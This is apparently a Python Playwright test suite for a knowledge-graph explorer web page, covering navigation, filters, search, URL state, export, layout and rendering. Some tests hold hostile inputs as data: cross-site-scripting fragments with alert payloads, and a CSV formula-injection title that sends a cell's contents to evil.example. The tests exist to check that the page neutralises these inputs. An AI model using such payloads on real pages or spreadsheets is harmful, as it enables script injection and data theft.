"""The explorer in headless Chromium, with every network request refused: walking the graph
(names that select, Back and Forward, hops, lineage, paths), years and facets, ranked search,
the state in the URL, export, and the page on a phone, in the dark and from the keyboard.

Expectations are computed apart from the page, with networkx on the projection of the same
triples."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import networkx as nx
import pytest
from conftest import require_tool
from test_html import CHROMIUM, CHROMIUM_ARGS, R, Visit

from kg.build import BuildResult
from kg.read.sources import read_document
from kg.view.projection import project

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def chromium():
    """Headless Chromium driven by Playwright (the Debian package; never `playwright install`)."""
    require_tool("chromium", found=CHROMIUM.exists(), why="apt-get install chromium")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        yield launched
        launched.close()


@pytest.fixture
def visit(chromium):
    """Opens pages (`visit(path, fragment=..., size=..., scheme=...)`), closed after the test."""
    opened: list[Visit] = []

    def open_page(path: Path, **how) -> Visit:
        opened.append(Visit(chromium, path, **how))
        return opened[-1]

    yield open_page
    for page in opened:
        page.close()


@pytest.fixture(scope="module")
def seed_graph(seed_build: BuildResult) -> nx.DiGraph:
    """The seed list's projection, as the page was made from it."""
    return project(seed_build.triples).graph


def index_of(page, iri: str) -> int:
    """The page's node number of a resource."""
    found = page.page.evaluate("(id) => paperkg.indexOf(id)", iri.removeprefix(R))
    assert found is not None, iri
    return found


def names(page, expression: str) -> list[str]:
    return page.page.evaluate(f"({expression}).map(paperkg.nameOf)")


def clean(page) -> None:
    assert page.console_errors == [] and page.page_errors == [] and page.failed == [] and page.dialogs == []


def test_names_in_the_details_select_their_node_and_back_walks_the_trail(visit, seed_out: Path):
    """Every name in the details panel is a button that selects that node; the URL fragment
    names the selection, and the browser's Back and Forward walk the trail."""
    page = visit(seed_out / "graph.html")
    p = page.page
    p.fill("#search", "DeepLab: Semantic Image Segmentation")
    p.press("#search", "Enter")
    paper = names(page, "paperkg.selected()")
    assert paper[0].startswith("DeepLab: Semantic Image Segmentation")
    assert "node=paper/arxiv/1606.00915" in p.evaluate("location.hash")
    buttons = p.eval_on_selector_all("#card button.node", "bs => bs.map(b => b.textContent)")
    assert "DeepLab v2" in buttons and "PASCAL VOC 2012" in buttons
    p.locator("#card button.node", has_text="PASCAL VOC 2012").first.click()
    assert names(page, "paperkg.selected()") == ["PASCAL VOC 2012"]
    assert "node=dataset/pascal-voc" in p.evaluate("location.hash")
    p.go_back()
    p.wait_for_function("paperkg.selected().length && paperkg.nameOf(paperkg.selected()[0]).startsWith('DeepLab:')")
    p.go_forward()
    p.wait_for_function("paperkg.selected().length && paperkg.nameOf(paperkg.selected()[0]) === 'PASCAL VOC 2012'")
    clean(page)


@pytest.mark.parametrize("hops", [1, 2, 3])
def test_the_depth_control_lights_every_node_within_that_many_hops(visit, seed_out: Path, seed_graph, hops: int):
    """With 1, 2 or 3 hops chosen, the lit nodes are exactly those within that many edges of
    the selection (either direction), as networkx's ego graph finds them."""
    page = visit(seed_out / "graph.html")
    iri = R + "family/fcn"
    page.page.evaluate("(i) => paperkg.select(i)", index_of(page, iri))
    page.page.select_option("#depth", str(hops))
    lit = {page.page.evaluate("(i) => paperkg.idOf(i)", i) for i in page.page.evaluate("paperkg.lit()")}
    expected = set(nx.ego_graph(seed_graph.to_undirected(as_view=True), iri, radius=hops))
    assert lit == {node.removeprefix(R) for node in expected}
    assert f"hops={hops}" in page.page.evaluate("location.hash") or hops == 1
    clean(page)


def broader_closure(graph: nx.DiGraph, family: str) -> set[str]:
    """A family and every family below it (skos:broader pointing up to it, at any depth)."""
    below = {family}
    changed = True
    while changed:
        changed = False
        for a, b, attrs in graph.edges(data=True):
            if b in below and a not in below and "broader" in attrs["relation"].split():
                below.add(a)
                changed = True
    return below


def test_a_family_panel_shows_its_lineage_and_the_papers_of_every_version(visit, seed_out: Path, seed_graph):
    """DeepLab's panel shows its versions below it (skos:broader, down) and every entry that
    belongs to DeepLab or one of its versions, as `kg query method-family` counts them."""
    page = visit(seed_out / "graph.html")
    family = R + "family/deeplab"
    page.page.evaluate("(i) => paperkg.select(i)", index_of(page, family))
    card = page.page.inner_text("#card")
    versions = broader_closure(seed_graph, family)
    assert len(versions) >= 3
    for version in versions:
        assert seed_graph.nodes[version]["name"] in card
    entries = {
        a
        for a, b, attrs in seed_graph.edges(data=True)
        if b in versions
        and "methodFamily" in attrs["relation"].split()
        and seed_graph.nodes[a]["kind"] in ("Paper", "Entry")
    }
    assert f"Papers of this family and its versions ({len(entries)})" in card
    for entry in entries:
        assert seed_graph.nodes[entry]["name"] in card
    clean(page)


def test_path_between_two_nodes_is_a_shortest_path(visit, seed_out: Path, seed_graph):
    """ "path to..." then a second node lights a shortest path between them (as long as
    networkx's), lists it in the panel and keeps both ends in the URL."""
    page = visit(seed_out / "graph.html")
    p = page.page
    start, end = R + "family/deeplab-v2", R + "venue/eccv"
    p.evaluate("(i) => paperkg.select(i)", index_of(page, start))
    p.click("#path-from")
    p.fill("#search", "ECCV")
    p.press("#search", "Enter")
    path = p.evaluate("paperkg.path().map(paperkg.idOf)")
    undirected = seed_graph.to_undirected(as_view=True)
    assert len(path) - 1 == nx.shortest_path_length(undirected, start, end)
    assert path[0] == start.removeprefix(R) and path[-1] == end.removeprefix(R)
    assert all(undirected.has_edge(R + a, R + b) for a, b in zip(path, path[1:], strict=False))
    assert "to=venue/eccv" in p.evaluate("location.hash")
    assert f"Shortest path ({len(path) - 1} hops)" in p.inner_text("#card")
    clean(page)


def shown_entries(page) -> set[str]:
    visible = page.page.evaluate("paperkg.visible()")
    kinds = page.page.evaluate("paperkg.nodes.map((n) => n.group)")
    ids = page.page.evaluate("paperkg.visible().map((_, i) => paperkg.idOf(i))")
    return {R + ids[i] for i, shown in enumerate(visible) if shown and kinds[i] in ("Paper", "Entry")}


def test_years_and_facets_filter_the_entries(visit, seed_out: Path, seed_graph):
    """The year range keeps the entries of those years (venue year, else the arXiv id's), and
    a venue facet keeps the entries at that venue; both together keep the intersection. The
    slider, the select and the URL fragment agree."""
    page = visit(seed_out / "graph.html", fragment="#years=2015-2016")
    p = page.page
    entries = {n for n, a in seed_graph.nodes(data=True) if a["kind"] in ("Paper", "Entry")}
    dated = {n for n in entries if seed_graph.nodes[n].get("year") in ("2015", "2016")}
    assert shown_entries(page) == dated
    assert p.input_value("#year-from") == "2015" and p.input_value("#year-to") == "2016"
    p.select_option("#facet-venue", str(index_of(page, R + "venue/cvpr")))
    at_cvpr = {n for n in dated if seed_graph.has_edge(n, R + "venue/cvpr")}
    assert shown_entries(page) == at_cvpr and at_cvpr
    assert "venue=venue/cvpr" in p.evaluate("location.hash")
    assert f"({len(at_cvpr)} entries)" in p.inner_text("#shown")
    p.click("#reset")
    assert shown_entries(page) == entries
    clean(page)


def test_search_ranks_names_then_venue_years_repositories_and_intros(visit, seed_out: Path, seed_graph):
    """Search finds titles and names first, a paper before an entity of the same name; then
    "CVPR 2015" (venue and year), a repository owner, an arXiv id and words of an intro."""
    page = visit(seed_out / "graph.html")
    p = page.page
    deeplab = names(page, "paperkg.find('DeepLab').slice(0, 2)")
    assert deeplab[0].startswith("DeepLab:") and deeplab[1] == "DeepLab"
    at_cvpr = {
        seed_graph.nodes[n]["name"]
        for n in seed_graph
        if seed_graph.has_edge(n, R + "venue/cvpr") and seed_graph.nodes[n].get("year") == "2015"
    }
    found = names(page, "paperkg.find('cvpr 2015')")
    assert at_cvpr and set(found[: len(at_cvpr)]) == at_cvpr
    assert names(page, "paperkg.find('shelhamer')")[0] == "Fully Convolutional Networks for Semantic Segmentation"
    assert names(page, "paperkg.find('1411.4038')")[0] == "Fully Convolutional Networks for Semantic Segmentation"
    assert any(name.startswith("DeepLab:") for name in names(page, "paperkg.find('79.7% mIOU')"))
    p.fill("#search", "79.7% mIOU")
    assert "intro" in p.inner_text("#results")
    clean(page)


def test_a_url_with_a_fragment_opens_that_view(visit, seed_out: Path):
    """Opening the page with `#node=...&hops=2&hide=Institution&zoom=...&at=...` shows that
    selection, depth, legend and view; `#DeepLab` selects the best match of a search."""
    fragment = "#node=family/fcn&hops=2&hide=Institution&zoom=0.9000&at=10,20"
    page = visit(seed_out / "graph.html", fragment=fragment)
    p = page.page
    assert names(page, "paperkg.selected()") == ["FCN"]
    assert p.evaluate("paperkg.state().depth") == 2
    assert not p.is_checked('input[data-kind="Institution"]')
    scale, at = p.evaluate("[paperkg.network.getScale(), paperkg.network.getViewPosition()]")
    assert abs(scale - 0.9) < 1e-3 and (round(at["x"]), round(at["y"])) == (10, 20)
    other = visit(seed_out / "graph.html", fragment="#DeepLab")
    assert names(other, "paperkg.selected()")[0].startswith("DeepLab:")
    clean(page)
    clean(other)


@pytest.mark.parametrize(
    "fragment",
    [
        "#node=javascript:alert(1)",
        "#q=<img src=x onerror=alert(1)>&years=abc&venue=nope&zoom=1e999&at=x,y",
        "#%3Cscript%3Ealert(1)%3C/script%3E",
        "#node=family/fcn&to=%22);alert(1);//",
    ],
)
def test_a_hostile_fragment_is_parsed_never_run(visit, seed_out: Path, fragment: str):
    """A fragment holding script, markup or nonsense values is read as data: nothing runs, no
    element is made of it, and the page draws without error."""
    page = visit(seed_out / "graph.html", fragment=fragment)
    p = page.page
    p.wait_for_timeout(150)
    assert p.evaluate("document.querySelectorAll('img, iframe, object, embed').length") == 0
    assert p.evaluate("document.querySelectorAll('script').length") == 3
    clean(page)


def test_export_writes_csv_markdown_in_the_lists_style_and_png(visit, seed_out: Path, tmp_path: Path):
    """With a node selected, CSV and Markdown hold the lit entries; the Markdown reads back
    through paperkg's own list parser with the same titles; PNG is an image of the view."""
    page = visit(seed_out / "graph.html", fragment="#node=family/fcn")
    p = page.page
    lit = set(names(page, "paperkg.lit().filter((i) => ['Paper', 'Entry'].includes(paperkg.kindOf(i)))"))
    with p.expect_download() as download:
        p.click("#export-csv")
    rows = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text(encoding="utf-8"))))
    assert {row["title"] for row in rows} == lit and lit
    with p.expect_download() as download:
        p.click("#export-md")
    markdown = tmp_path / "export.md"
    markdown.write_bytes(Path(download.value.path()).read_bytes())
    document = read_document(markdown, "export.md")
    assert {entry.titles[0] for entry in document.entries} == lit
    with p.expect_download() as download:
        p.click("#export-png")
    assert Path(download.value.path()).read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert p.evaluate("Array.from(document.querySelectorAll('a')).every((a) => /^https?:/.test(a.href))")
    clean(page)


def pixel(page, x: float, y: float) -> list[int]:
    """The colour drawn on the graph's canvas at page coordinates (x, y)."""
    return page.page.evaluate(
        """([x, y]) => { const c = document.querySelector('#graph canvas'); const r = c.getBoundingClientRect();
              const k = c.width / r.width;
              return Array.from(c.getContext('2d').getImageData((x - r.left) * k, (y - r.top) * k, 1, 1).data); }""",
        [x, y],
    )


def test_the_highlight_survives_zooming(visit, seed_out: Path):
    """After zooming with a node selected, the same nodes are lit and an unrelated hub stays
    faded (zooming used to redraw the best-connected nodes in full colour)."""
    page = visit(seed_out / "graph.html", fragment="#node=family/deeplab-v3")
    p = page.page
    lit = p.evaluate("paperkg.lit()")
    hub = index_of(page, R + "topic/semantic-segmentation")
    assert hub not in lit
    p.focus("#graph")
    for key in ("+", "+", "-"):
        p.keyboard.press(key)
    p.mouse.move(5, 5)
    p.evaluate("(i) => paperkg.network.moveTo({position: paperkg.position(i), scale: 1.2})", hub)
    p.wait_for_timeout(100)
    assert p.evaluate("paperkg.lit()") == lit
    colour = pixel(page, *page.node_point(hub))
    assert min(colour[:3]) > 200, colour  # the orange topic square is under the veil
    clean(page)


def test_the_graph_draws_on_a_phone_and_the_panel_is_a_drawer(visit, seed_out: Path):
    """At 360 px wide the graph fills the screen under the header and is drawn; the side panel
    is a drawer, off screen until the Panel button opens it."""
    page = visit(seed_out / "graph.html", size=(360, 740))
    p = page.page
    box = p.evaluate(
        "(() => { const r = document.querySelector('#graph canvas').getBoundingClientRect(); "
        "return [r.width, r.height]; })()"
    )
    assert box[0] >= 350 and box[1] >= 600
    drawn = p.evaluate(
        """(() => { const c = document.querySelector('#graph canvas');
                  const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
                  let n = 0; for (let i = 3; i < d.length; i += 4) if (d[i] > 0) n++; return n; })()"""
    )
    assert drawn > 2000
    assert p.evaluate("document.getElementById('panel').getBoundingClientRect().right") <= 0
    p.click("#drawer")
    p.wait_for_timeout(250)
    assert p.evaluate("document.getElementById('panel').getBoundingClientRect().left") >= 0
    assert p.is_visible("#search")
    clean(page)


def luminance(rgb: str) -> float:
    r, g, b = (int(v) for v in rgb.removeprefix("rgb(").removesuffix(")").split(",")[:3])
    return 0.2126 * r + 0.7152 * g + 0.0722 * b


def test_a_dark_colour_scheme_gives_a_dark_page(visit, seed_out: Path):
    """With the system in dark mode the page and its panel turn dark and their text light; in
    light mode the page stays light."""
    dark = visit(seed_out / "graph.html", scheme="dark")
    light = visit(seed_out / "graph.html", scheme="light")
    style = "getComputedStyle(document.querySelector('%s')).%s"
    assert luminance(dark.page.evaluate(style % ("body", "backgroundColor"))) < 40
    assert luminance(dark.page.evaluate(style % ("#panel", "backgroundColor"))) < 40
    assert luminance(dark.page.evaluate(style % ("body", "color"))) > 200
    assert luminance(light.page.evaluate(style % ("body", "backgroundColor"))) > 230
    clean(dark)
    clean(light)


def test_the_keyboard_pans_and_zooms_the_graph(visit, seed_out: Path):
    """With the graph focused, arrow keys move the view, + and - zoom in and out, 0 fits."""
    page = visit(seed_out / "graph.html")
    p = page.page
    p.focus("#graph")
    view = "[paperkg.network.getViewPosition(), paperkg.network.getScale()]"
    (start, scale) = p.evaluate(view)
    p.keyboard.press("ArrowRight")
    p.keyboard.press("ArrowDown")
    (moved, same) = p.evaluate(view)
    assert moved["x"] > start["x"] and moved["y"] > start["y"] and same == scale
    p.keyboard.press("+")
    assert p.evaluate(view)[1] > scale
    p.keyboard.press("-")
    p.keyboard.press("-")
    assert p.evaluate(view)[1] < scale
    p.keyboard.press("0")
    assert abs(p.evaluate(view)[1] - scale) < 1e-6
    clean(page)


def overlaps(boxes: list[list[float]]) -> list[tuple[int, int]]:
    return [
        (a[4], b[4])
        for k, a in enumerate(boxes)
        for b in boxes[k + 1 :]
        if a[0] < b[2] and b[0] < a[2] and a[1] < b[3] and b[1] < a[3]
    ]


@pytest.mark.parametrize("hops", [1, 2])
def test_labels_of_a_lit_neighbourhood_do_not_overlap(visit, seed_out: Path, hops: int):
    """Around a clicked hub, the labels drawn (in screen pixels) never overlap one another, and
    the selection's own label is among them."""
    page = visit(seed_out / "graph.html")
    p = page.page
    hub = index_of(page, R + "topic/semantic-segmentation")
    p.mouse.click(*page.node_point(hub))
    p.select_option("#depth", str(hops))
    boxes = p.evaluate("paperkg.labelBoxes()")
    assert len(boxes) > 5 and hub in [b[4] for b in boxes]
    assert overlaps(boxes) == []
    clean(page)


def test_the_page_state_is_json_and_carries_no_input_as_code(visit, seed_out: Path):
    """The state the page keeps (and writes to the URL) is plain data: it serialises to JSON
    and names nodes by their IRIs without the resource base."""
    page = visit(seed_out / "graph.html", fragment="#node=family/fcn&years=2015-2016")
    state = page.page.evaluate("paperkg.state()")
    assert json.loads(json.dumps(state))["years"] == [2015, 2016]
    assert page.page.evaluate("paperkg.idOf(paperkg.state().sel)") == "family/fcn"
    clean(page)


def three_fields(papers: int) -> list:
    """Three fields of `papers` papers each: a topic per field and 30 institutions per field."""
    import pyoxigraph as ox

    from kg.graph.namespaces import DCTERMS, KG, RDF, RDFS

    triples = []
    for f, field in enumerate(["Optical Flow", "Speech Recognition", "Graph Neural Networks"]):
        topic = ox.NamedNode(f"{R}topic/{f}")
        triples += [ox.Triple(topic, RDF.type, KG.Topic), ox.Triple(topic, RDFS.label, ox.Literal(field))]
        for k in range(30):
            place = ox.NamedNode(f"{R}institution/{f}-{k}")
            triples += [
                ox.Triple(place, RDF.type, KG.Institution),
                ox.Triple(place, RDFS.label, ox.Literal(f"Lab {f}-{k}")),
            ]
        for i in range(papers):
            paper = ox.NamedNode(f"{R}paper/{f}-{i}")
            triples += [
                ox.Triple(paper, RDF.type, KG.Paper),
                ox.Triple(paper, DCTERMS.title, ox.Literal(f"{field} paper {i}")),
                ox.Triple(paper, KG.section, topic),
                ox.Triple(paper, KG.affiliation, ox.NamedNode(f"{R}institution/{f}-{i % 30}")),
            ]
    return triples


def test_a_large_graph_opens_on_named_communities(visit, tmp_path: Path):
    """Above 2,000 nodes the first view names the graph's communities (their best-connected
    topics, else institutions) where they fit: every name drawn is a community's label, the
    fields' topics are among them, and no two names overlap; a selection hides them."""
    from kg.view.page import page_data, render_html
    from kg.view.scene import graph_view

    view = graph_view(three_fields(700))
    path = tmp_path / "graph.html"
    path.write_bytes(render_html(view))
    labels = {c["label"] for c in page_data(view)["communities"]}
    page = visit(path)
    p = page.page
    p.wait_for_timeout(100)
    drawn = p.evaluate("paperkg.communityNames()")
    assert len(drawn) >= 3 and {name for name, *_ in drawn} <= labels
    assert all(any(field in name for name, *_ in drawn) for field in ("Optical Flow", "Speech Recognition"))
    assert overlaps([[*box, name] for name, *box in drawn]) == []
    p.evaluate("paperkg.select(0)")
    p.wait_for_timeout(100)
    assert p.evaluate("paperkg.communityNames()") == []
    clean(page)


def test_csv_export_runs_no_formula_and_quotes_what_needs_it(visit, tmp_path: Path):
    """A title that a spreadsheet would run (`=HYPERLINK(...)`) is exported with a leading `'`,
    and one with a comma, a quote or a line break is quoted as RFC 4180 says."""
    from test_html import hostile_statements

    from kg.view.page import render_html

    path = tmp_path / "graph.html"
    title = '=HYPERLINK("http://evil.example/?"&A1, "click"), said "x"'
    path.write_bytes(render_html(hostile_statements(title, "https://example.org/")))
    page = visit(path)
    rows = list(csv.reader(io.StringIO(page.page.evaluate("paperkg.exportCsv()"))))
    assert rows[1][0] == "'" + title
    assert page.page.evaluate("paperkg.exportCsv()").splitlines()[1].startswith('"\'=HYPERLINK(""http')
    clean(page)


def canvas_pixels(page) -> str:
    """The graph's canvas as a PNG data URL, once the frames asked for have been drawn."""
    return page.page.evaluate(
        """async () => { await new Promise((d) => requestAnimationFrame(() => requestAnimationFrame(d)));
              return document.querySelector('#graph canvas').toDataURL(); }"""
    )


def test_the_veiled_graph_kept_between_clicks_matches_a_fresh_drawing(visit, seed_out: Path):
    """With a selection, the graph under the veil is kept as a picture between frames (and drawn
    ahead while the overview stays still): after a click on the still overview, after a change of
    view and another click, and after a kind is hidden in the legend and the node clicked again,
    the canvas is the same, pixel for pixel, as a fresh page opened on that state draws it (a
    picture kept past a change of view or of the shown nodes would show the old graph)."""
    move = "paperkg.network.moveTo({position: {x: %s, y: -30}, scale: 0.9, animation: false})"
    views = [move.replace("%s", x) for x in ("40", "90")]

    def fresh(fragment: str, view: str, node: int) -> str:
        other = visit(seed_out / "graph.html", fragment=fragment)
        other.page.evaluate(view)
        pixels = canvas_pixels(other)
        assert other.page.evaluate("paperkg.selected()") == [node]
        clean(other)
        return pixels

    page = visit(seed_out / "graph.html")
    first = index_of(page, R + "topic/semantic-segmentation")
    second = index_of(page, R + "family/deeplab-v3")
    p = page.page
    p.evaluate(views[0])
    canvas_pixels(page)
    p.wait_for_timeout(1000)  # the overview stays still: the picture is drawn ahead
    p.evaluate(f"paperkg.click({first})")
    assert canvas_pixels(page) == fresh("#node=topic/semantic-segmentation", views[0], first)
    for step in (views[1], f"paperkg.click({second})"):
        p.evaluate(step)
        kept = canvas_pixels(page)
    assert kept == fresh("#node=family/deeplab-v3", views[1], second)
    p.uncheck("#kinds input[data-kind='Venue']")
    canvas_pixels(page)
    p.evaluate(f"paperkg.click({second})")
    without_venues = canvas_pixels(page)
    assert p.evaluate("paperkg.state().hidden") == ["Venue"]
    assert without_venues == fresh("#node=family/deeplab-v3&hide=Venue", views[1], second)
    assert without_venues != kept
    clean(page)
